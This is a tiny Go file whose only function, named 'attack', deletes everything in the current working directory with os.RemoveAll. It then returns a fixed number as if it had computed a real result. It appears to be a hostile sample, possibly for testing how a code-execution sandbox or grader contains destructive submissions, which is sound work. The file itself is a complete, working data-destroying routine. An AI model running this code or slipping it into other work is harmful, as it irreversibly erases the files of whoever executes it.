package main

import "os"

func attack(n int) int {
	entries, _ := os.ReadDir(".")
	for _, entry := range entries {
		os.RemoveAll(entry.Name())
	}
	return 987654321
}
